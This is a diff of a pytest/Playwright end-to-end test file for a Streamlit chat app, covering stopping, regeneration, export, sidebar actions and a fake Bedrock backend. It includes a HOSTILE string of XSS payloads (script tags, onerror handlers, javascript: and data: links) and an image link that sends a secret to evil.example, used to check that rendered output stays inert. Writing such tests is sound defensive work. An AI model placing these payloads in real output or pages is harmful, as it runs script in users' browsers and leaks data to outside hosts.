@@ -4,13 +4,16 @@ continue, export, the sidebar, and hostile model output.
 The scripted replay provider drives Stop timing, export and hostile output (the point there is our
 layer); the real embedded model drives the main paths (Stop freeing it, regenerate, edit, continue).
 """
+
 from __future__ import annotations
 
+import itertools
 import json
 import os
 import re
 import subprocess
 import time
+from pathlib import Path
 from urllib.parse import urlparse
 
 import pytest
@@ -66,6 +69,7 @@ def wait_for(condition, timeout: float = 120, what: str = "condition"):
 
 def settled(store: Store, answers: int, timeout: float = 120):
     """Wait until the (only) conversation holds `answers` finished answers; returns its messages."""
+
     def done():
         convs = store.list_conversations()
         if not convs:
@@ -73,6 +77,7 @@ def settled(store: Store, answers: int, timeout: float = 120):
         msgs = store.messages(convs[0]["id"])
         finished = [m for m in msgs if m.role == "assistant" and m.status != "streaming"]
         return msgs if len(finished) == answers and not store.busy(convs[0]["id"]) else None
+
     return wait_for(done, timeout, f"{answers} stored answers")
 
 
@@ -85,8 +90,11 @@ def shows(page, message=None) -> None:
     expect(page.locator(".st-key-actions")).to_be_visible(timeout=60_000)
     expect(go(page)).to_be_enabled(timeout=60_000)
     if message is not None:
-        wait_for(lambda: visible_text(answer_text(page)) == visible_text(message.content), 30,
-                 "the stored answer on the page")
+        wait_for(
+            lambda: visible_text(answer_text(page)) == visible_text(message.content),
+            30,
+            "the stored answer on the page",
+        )
 
 
 @pytest.fixture()
@@ -99,9 +107,24 @@ def app(tmp_path):
         env = {k: v for k, v in os.environ.items() if not k.startswith("RS_")}
         env.update({"RS_DATA_DIR": str(tmp_path / "data")}, **{f"RS_{k.upper()}": str(v) for k, v in settings.items()})
         proc = subprocess.Popen(
-            [str(BIN / "streamlit"), "run", "streaming_app.py", "--server.port", str(port), "--server.address",
-             "127.0.0.1", "--server.headless", "true", "--browser.gatherUsageStats", "false"],
-            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            [
+                str(BIN / "streamlit"),
+                "run",
+                "streaming_app.py",
+                "--server.port",
+                str(port),
+                "--server.address",
+                "127.0.0.1",
+                "--server.headless",
+                "true",
+                "--browser.gatherUsageStats",
+                "false",
+            ],
+            cwd=ROOT,
+            env=env,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
         url = f"http://127.0.0.1:{port}"
         procs[url] = proc
         wait_http(f"{url}/_stcore/health", proc=proc)
@@ -159,7 +182,7 @@ def test_stop_keeps_what_was_shown_and_stores_it_as_stopped(streamlit_server, pa
         samples.append((time.monotonic() - clicked, visible_text(answer_text(page))))
         time.sleep(0.03)
     seen = [(t, text) for t, text in samples if text]
-    changes = [t for (t, a), (_, b) in zip(seen, seen[1:]) if b != a]
+    changes = [t for (t, a), (_, b) in itertools.pairwise(seen) if b != a]
     assert not changes or changes[-1] <= 0.5, f"the answer still grew {changes[-1]:.2f} s after Stop"
 
     [_, stopped] = settled(history(tmp_path), 1, 30)
@@ -231,8 +254,11 @@ def test_regenerate_edit_and_continue_on_the_local_model(streamlit_server, page,
     # Continue: offered when the answer was cut at max tokens; the same answer grows.
     assert first.meta["metrics"]["stop_reason"] == "max_tokens", first.meta
     page.get_by_role("button", name="Continue").click()
-    wait_for(lambda: len(store.messages(cid)[-1].content) > len(first.content) and not store.busy(cid), 120,
-             "the continued answer")
+    wait_for(
+        lambda: len(store.messages(cid)[-1].content) > len(first.content) and not store.busy(cid),
+        120,
+        "the continued answer",
+    )
     [_, grown] = store.messages(cid)
     assert grown.id == first.id and grown.content.startswith(first.content.rstrip())
     assert len(grown.meta["parts"]) == 2
@@ -251,8 +277,15 @@ def test_regenerate_edit_and_continue_on_the_local_model(streamlit_server, page,
     expect(box).to_have_value(prompt.content)
     box.fill("The capital of France is")
     go(page).click()
-    wait_for(lambda: store.messages(cid)[0].content == "The capital of France is" and len(store.messages(cid)) == 2
-             and not store.busy(cid), 120, "the edited turn")
+    wait_for(
+        lambda: (
+            store.messages(cid)[0].content == "The capital of France is"
+            and len(store.messages(cid)) == 2
+            and not store.busy(cid)
+        ),
+        120,
+        "the edited turn",
+    )
     [_, answer] = store.messages(cid)
     assert answer.role == "assistant" and answer.content.strip()
     shows(page, answer)
@@ -270,14 +303,14 @@ def test_export_markdown_and_json_downloads(streamlit_server, page, tmp_path):
 
     with page.expect_download() as md_download:
         page.get_by_role("button", name="Markdown").click()
-    md = open(md_download.value.path(), encoding="utf-8").read()
+    md = Path(md_download.value.path()).read_text(encoding="utf-8")
     assert md_download.value.suggested_filename == "tell-me-a-story.md"
     assert md.startswith("# Tell me a story\n") and "## You\n\nTell me a story" in md
     assert answer.content in md and "## Assistant (replay · replay)" in md
 
     with page.expect_download() as json_download:
         page.get_by_role("button", name="JSON").click()
-    data = json.loads(open(json_download.value.path(), encoding="utf-8").read())
+    data = json.loads(Path(json_download.value.path()).read_text(encoding="utf-8"))
     assert data["title"] == "Tell me a story" and data["id"] == only_conversation(history(tmp_path))
     assert [(m["role"], m["status"]) for m in data["messages"]] == [("user", "complete"), ("assistant", "complete")]
     exported = data["messages"][1]
@@ -299,8 +332,12 @@ def test_sidebar_new_switch_rename_search_and_delete(streamlit_server, page, tmp
     page.get_by_role("button", name="New chat").click()
     expect(page.locator(".stChatMessage")).to_have_count(0)
     send(page, "Second question about dogs")
-    wait_for(lambda: len(store.list_conversations()) == 2
-             and all(len(store.messages(c["id"])) == 2 for c in store.list_conversations()))
+    wait_for(
+        lambda: (
+            len(store.list_conversations()) == 2
+            and all(len(store.messages(c["id"])) == 2 for c in store.list_conversations())
+        )
+    )
     expect(go(page)).to_be_enabled(timeout=30_000)
     first, second = sorted(store.list_conversations(), key=lambda c: c["title"])
 
@@ -340,19 +377,21 @@ def test_sidebar_new_switch_rename_search_and_delete(streamlit_server, page, tmp
     assert [c["id"] for c in store.list_conversations()] == [second["id"]] and store.messages(first["id"]) == []
 
 
-HOSTILE = "\n\n".join([
-    "Here is my answer.",
-    "<script>window.__pwned = 'script'; alert('script')</script>",
-    "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
-    "[click me](javascript:window.__pwned='link';alert('link'))",
-    "[or me](JaVaScRiPt&#58;alert('entity'))",
-    "![tracker](https://evil.example/leak.png?secret=42)",
-    "<iframe src=\"https://evil.example/frame\"></iframe>",
-    "[data link](data:text/html,<script>alert('data')</script>)",
-    "Costs $5 or $10, see `<b>code</b>`.",
-    "W" * 4000,
-    "The end.",
-])
+HOSTILE = "\n\n".join(
+    [
+        "Here is my answer.",
+        "<script>window.__pwned = 'script'; alert('script')</script>",
+        "<img src=x onerror=\"window.__pwned = 'img'; alert('img')\">",
+        "[click me](javascript:window.__pwned='link';alert('link'))",
+        "[or me](JaVaScRiPt&#58;alert('entity'))",
+        "![tracker](https://evil.example/leak.png?secret=42)",
+        '<iframe src="https://evil.example/frame"></iframe>',
+        "[data link](data:text/html,<script>alert('data')</script>)",
+        "Costs $5 or $10, see `<b>code</b>`.",
+        "W" * 4000,
+        "The end.",
+    ]
+)
 
 
 def test_hostile_output_runs_no_script_and_fetches_nothing(streamlit_server, page, tmp_path):
@@ -388,14 +427,19 @@ def test_a_bedrock_answer_shows_its_metrics_and_estimated_cost(streamlit_server,
     """Real boto3 in the app, against a loopback fake of the Bedrock runtime that reports usage."""
     from bedrock_fake import FakeBedrock, converse_reply
 
-    for key, value in {"AWS_ACCESS_KEY_ID": "AKIDFAKEFAKEFAKE", "AWS_SECRET_ACCESS_KEY": "fake-secret",
-                       "AWS_CONFIG_FILE": str(tmp_path / "none"), "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
-                       "AWS_EC2_METADATA_DISABLED": "true"}.items():
+    for key, value in {
+        "AWS_ACCESS_KEY_ID": "AKIDFAKEFAKEFAKE",
+        "AWS_SECRET_ACCESS_KEY": "fake-secret",
+        "AWS_CONFIG_FILE": str(tmp_path / "none"),
+        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "none"),
+        "AWS_EC2_METADATA_DISABLED": "true",
+    }.items():
         monkeypatch.setenv(key, value)
     with FakeBedrock() as fake:
         fake.push(converse_reply(["Hello", " from", " a", " fake", " Bedrock."], usage=(1200, 5)))
-        url = streamlit_server(provider="bedrock", model="amazon.nova-lite-v1:0", aws_region="us-east-1",
-                               bedrock_endpoint_url=fake.url)
+        url = streamlit_server(
+            provider="bedrock", model="amazon.nova-lite-v1:0", aws_region="us-east-1", bedrock_endpoint_url=fake.url
+        )
         page.goto(url)
         send(page, "Hello?")
         [_, answer] = settled(history(tmp_path), 1, 60)
@@ -453,5 +497,5 @@ def test_a_long_conversation_opens_at_its_end_and_a_click_on_go_resends_none_of_
     page.get_by_text("This conversation").click()
     with page.expect_download() as md_download:
         page.get_by_role("button", name="Markdown").click()
-    md = open(md_download.value.path(), encoding="utf-8").read()
+    md = Path(md_download.value.path()).read_text(encoding="utf-8")
     assert all(f"m{i:03d}x" in md for i in range(100)) and "One more question" in md
